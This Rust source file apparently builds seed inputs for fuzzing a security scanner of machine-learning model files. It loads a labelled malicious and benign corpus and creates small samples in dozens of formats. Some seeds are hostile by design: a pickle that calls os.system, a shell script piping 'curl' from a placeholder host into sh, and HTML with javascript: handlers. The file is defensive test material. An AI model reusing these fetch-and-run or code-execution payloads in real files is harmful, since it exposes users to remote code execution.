//! What variants are made of: the corpus of known kind, and small files of our own of every format.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::wrap::{self, Method, ZipShape};
use super::{graphs, tensors};
use crate::assemble::Asm;

/// A file to begin with.
#[derive(Clone, Debug)]
pub(crate) struct Seed {
    /// Its path in the corpus, or what it is.
    pub(crate) name: String,
    pub(crate) bytes: Vec<u8>,
    pub(crate) malicious: bool,
    /// Whether its harm is high or critical.
    pub(crate) grave: bool,
}

impl Seed {
    pub(crate) fn own(name: &str, bytes: impl Into<Vec<u8>>) -> Self {
        Self { name: name.to_owned(), bytes: bytes.into(), malicious: true, grave: true }
    }

    /// The last part of its name.
    pub(crate) fn file(&self) -> &str {
        self.name.rsplit('/').next().unwrap_or_default()
    }
}

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// The corpus of known kind.
pub(crate) fn corpus() -> Vec<Seed> {
    let place = root().join("tests/models/visible");
    let manifest = fs::read_to_string(place.join("manifest.jsonl")).unwrap();
    let seeds: Vec<_> = manifest
        .lines()
        .map(|line| {
            let row: Value = serde_json::from_str(line).unwrap();
            let name = row["path"].as_str().unwrap();
            Seed {
                name: name.to_owned(),
                bytes: fs::read(place.join(name)).unwrap(),
                malicious: row["label"] == "malicious",
                grave: matches!(row["severity"].as_str().unwrap(), "high" | "critical"),
            }
        })
        .collect();
    assert_eq!(seeds.len(), 169);
    seeds
}

/// Small files of every format that is read, most of them harmless: what is changed byte by byte.
pub(crate) fn of_every_format() -> Vec<(&'static str, Vec<u8>)> {
    let mut seeds = vec![
        ("pickle", b"(dp0\nS'a\\x41'\np1\nI12\nsVx\\u0416\n(iposix\nerror\nL5L\nF1.5\nd0g1\n.".to_vec()),
        ("pickle", Asm::proto(4).stack_global("os", "system").args("x").op(b'R').stop()),
        ("numpy", numpy(b"{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }", &[0; 16])),
        ("numpy", numpy(b"{'descr': [('a', '<i2'), ('b', '|S3')], 'fortran_order': True, 'shape': (2, 1)}", &[1; 10])),
        ("safetensors", tensors::safetensors(&[("a", "F32", &[2, 2]), ("b", "I8", &[3])], &[("format", "pt")])),
        ("tflite", graphs::tflite("FlexRelu")),
        ("coreml", graphs::coreml("Layer")),
        ("msgpack", b"\x81\xa6params\x82\xa1w\xc7\x0c\x01\x93\x91\x01\xa7float32\xc4\x04\0\0\x80?\xa1b\x90".to_vec()),
        ("torchscript", b"class M(Module):\n  __parameters__ = [\"w\", ]\n  w : Tensor\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    return torch.add(x, self.w, alpha=1)\n".to_vec()),
        ("lightgbm", b"tree\nversion=v4\nnum_class=1\nTree=0\nleaf_value=0.1 0.2\n\nend of trees\n".to_vec()),
        ("json", br#"{"auto_map": {"AutoModel": "a--b.C"}, "chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}", "n": [1, -2.5e3, null, true]}"#.to_vec()),
        ("notebook", br##"{"cells":[{"cell_type":"code","source":["%pip install x\n","import os\n"],"outputs":[{"data":{"text/html":["<b>"]}}]}],"nbformat":4}"##.to_vec()),
        ("yaml", b"%YAML 1.1\n---\na: &x [1, 'b', \"c\\x41\"]\nb: {c: *x, ? d : !!float 1}\ne: |-\n  f\n  g\nh: >\n i\n_target_: torch.nn.Linear\n...\n".to_vec()),
        ("template", b"{%- set ns = namespace(a='') -%}{% for m in messages if m.role != 'x' %}{{ m['content']|trim ~ \"\\n\" }}{% else %}{# c #}{% endfor %}{% macro f(a, b=1) %}{{ a[b:2] }}{% endmacro %}{{ f(1) if x is defined else 'y' }}".to_vec()),
        ("python", b"import os as o\nfrom a.b import *\n@d(x=1)\nclass C(B, metaclass=M):\n    '''doc'''\n    def f(self, *a, k: int = 3, **w) -> None:\n        x = [y for y in (lambda z: z)(a) if y] or f\"{k!r:>{w}}\"\n        with o.open('x') as f: yield f\ntry:\n    pass\nexcept (A, B) as e:\n    raise e from None\n".to_vec()),
        ("site", b"# note\n./a\nimport sys; sys.path\n".to_vec()),
        ("shell", b"#!/bin/sh\nset -e\nfor x in $(ls); do echo \"$x\" | cat >>y; done\ncurl -s http://h.example \\\n  | sh\n".to_vec()),
        ("modelfile", b"FROM ./m.gguf\nPARAMETER stop \"x\"\nTEMPLATE \"\"\"{{ if .System }}{{ .System }}{{ end }}{{ .Prompt }}\"\"\"\nADAPTER ./l\n".to_vec()),
        ("requirements", b"torch>=2 ; python_version > '3'\n-r other.txt\n--index-url https://h.example\na @ git+https://h.example/a.git#egg=a\n".to_vec()),
        ("attributes", b"*.bin filter=lfs diff=lfs merge=lfs -text\n[lfs]\n\turl = https://h.example\n".to_vec()),
        ("page", b"---\nlicense: mit\n---\n# T\n<p onclick='x()'>[a](javascript:x)</p>\n```html\n<script>\n```\n".to_vec()),
        ("booster", br#"{"version":[2,0,0],"learner":{"attributes":{},"gradient_booster":{"model":{"trees":[]},"name":"gbtree"},"learner_model_param":{"num_class":"0"},"objective":{"name":"reg:squarederror"}}}"#.to_vec()),
        ("skops", br#"{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{"a":{"__class__":"str","__module__":"builtins","__loader__":"JsonNode","content":"\"b\"","is_json":true}},"key_types":{"__class__":"list","__module__":"builtins","__loader__":"ListNode","content":[]},"protocol":0}"#.to_vec()),
        ("keras_config", graphs::keras_config(r#"{"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}, "registered_name": null}"#).into_bytes()),
        ("xml", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE a [<!ENTITY b 'c'>]>\n<PMML version=\"4.4\" xmlns:x='y'><!-- n --><Header a=\"&lt;&#65;\"/><![CDATA[z]]><x:e>&amp;</x:e></PMML>".to_vec()),
        ("container_zip", wrap::zip(&[("a/data.pkl", b"\x80\x02N."), ("a/version", b"3\n")], &ZipShape::plain(Method::Deflate))),
        ("container_zip", wrap::zip(&[("a", b"b")], &ZipShape { zip64: true, descriptor: true, comment: b"c".to_vec(), ..ZipShape::plain(Method::Lzma) })),
        ("container_tar", wrap::tar(&[("a.txt", b"hello"), ("b.pkl", b"\x80\x02N.")])),
        ("container_sevenz", wrap::sevenz(&[("a.txt", b"hello hello hello"), ("b.pkl", b"\x80\x02N.")], true)),
        ("container_sevenz", wrap::sevenz(&[("a.txt", b"hello")], false)),
        ("container_streams", wrap::gzip(b"hello hello hello")),
        ("container_streams", wrap::bzip2(b"hello hello hello")),
        ("container_streams", wrap::xz(b"hello hello hello")),
        ("container_streams", wrap::lzma(b"hello hello hello")),
        ("container_streams", wrap::zstandard(b"hello hello hello")),
        ("archive", wrap::tar(&[("m.tar.gz", &wrap::gzip(&wrap::tar(&[("config.json", b"{}")])))])),
    ];
    for version in 1..=3 {
        seeds.push(("gguf", tensors::Gguf::small(version).write()));
    }
    seeds.push(("onnx", graphs::onnx(&graphs::node("MatMul", ""))));
    seeds.push(("tensorflow", graphs::saved_model(&graphs::tf_graph(&[graphs::tf_node("a", "Relu")], &[]))));
    seeds.push((
        "tensorflow_meta",
        graphs::meta_graph(&graphs::tf_graph(&[graphs::tf_node("a", "Relu")], &[])),
    ));
    let here = Path::new(env!("CARGO_MANIFEST_DIR"));
    for file in [
        "old.h5",
        "new.h5",
        "old_lambda.h5",
        "new_lambda.h5",
        "links.h5",
        "stored.h5",
        "virtual.h5",
        "user_block.h5",
    ] {
        seeds.push(("hdf5", fs::read(here.join("testdata").join(file)).unwrap()));
    }
    let bundles = fs::read_dir(here.join("tests/oms/bundles")).unwrap();
    let mut bundles: Vec<_> = bundles.map(|entry| entry.unwrap().path()).collect();
    bundles.sort();
    for bundle in bundles.into_iter().take(6) {
        seeds.push(("signature_bundle", fs::read(bundle).unwrap()));
    }
    for seed in corpus().into_iter().filter(|seed| seed.bytes.len() <= 32 << 10) {
        let target = target_of(&seed.name);
        seeds.push((target, seed.bytes));
    }
    seeds
}

/// The fuzz target for a file of the corpus.
fn target_of(name: &str) -> &'static str {
    let ends = |all: &[&str]| all.iter().any(|end| name.ends_with(end));
    if ends(&[".pkl", ".dat"]) {
        "pickle"
    } else if ends(&[".npy", ".npz"]) {
        "numpy"
    } else if ends(&[".safetensors"]) {
        "safetensors"
    } else if ends(&[".gguf"]) {
        "gguf"
    } else if ends(&[".onnx"]) {
        "onnx"
    } else if ends(&[".pb"]) {
        "tensorflow"
    } else if ends(&[".keras"]) {
        "keras"
    } else if ends(&[".h5"]) {
        "hdf5"
    } else if ends(&[".joblib"]) {
        "joblib"
    } else if ends(&[".json"]) {
        "json"
    } else if ends(&[".yaml"]) {
        "yaml"
    } else if ends(&[".py"]) {
        "python"
    } else if ends(&[".xml", ".pmml"]) {
        "xml"
    } else if ends(&[".msgpack"]) {
        "msgpack"
    } else if ends(&[".pt", ".pth", ".bin", ".ckpt"]) {
        "torch"
    } else if ends(&[".zip", ".tar", ".gz", ".7z", ".mar", ".nemo", ".skops"]) {
        "archive"
    } else {
        "nameless"
    }
}

/// An array file of version 1.
pub(crate) fn numpy(header: &[u8], data: &[u8]) -> Vec<u8> {
    let mut out = b"\x93NUMPY\x01\0".to_vec();
    let len = (10 + header.len() + 1).next_multiple_of(64) - 10;
    out.extend(u16::try_from(len).unwrap().to_le_bytes());
    out.extend(header);
    out.resize(10 + len - 1, b' ');
    out.push(b'\n');
    out.extend(data);
    out
}
